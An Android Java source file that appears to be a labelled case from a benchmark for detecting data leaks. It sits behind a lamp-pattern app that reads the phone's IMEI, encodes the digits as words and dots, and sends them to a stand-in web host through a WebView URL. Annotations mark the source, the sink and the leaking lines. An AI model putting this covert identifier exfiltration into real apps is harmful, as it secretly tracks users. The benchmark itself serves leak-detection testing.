package bench.flow.morse_lamp;

import android.app.Activity;
import android.content.pm.PackageManager;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import android.webkit.WebView;

/** Shows a pattern for a lamp, made for this phone. */
public final class Main extends Activity {
    private static final String[] LAMP = {
        "dark", "dim", "low", "soft", "warm", "plain", "clear", "bright", "white", "blue"
    };
    private WebView page;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        page = new WebView(this);
        setContentView(page);
        if (checkSelfPermission("android.permission.READ_PHONE_STATE")
                != PackageManager.PERMISSION_GRANTED) {
            requestPermissions(new String[] {"android.permission.READ_PHONE_STATE"}, 1);
        }
    }

    @Override
    protected void onResume() {
        super.onResume();
        if (checkSelfPermission("android.permission.READ_PHONE_STATE")
                == PackageManager.PERMISSION_GRANTED) {
            light();
        }
    }

    private void light() {
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        String imei = phone.getDeviceId(); //: #source
        if (imei == null) {
            return;
        }
        StringBuilder pattern = new StringBuilder("https://lamp.example.com/show?p=");
        for (int i = 0; i < imei.length() && i < 15; i++) {
            int digit = Character.digit(imei.charAt(i), 10);
            pattern.append(LAMP[Math.max(digit, 0)]).append('-'); //: @leak
            pattern.append(LAMP[i % LAMP.length]).append('-'); //: @clean
            for (int dots = 0; dots < digit; dots++) { //: @counted
                pattern.append('.'); //: @counted
            } //: @counted
            pattern.append('_'); //: @counted
        }
        page.loadUrl(pattern.toString()); //: #sink
    }
}
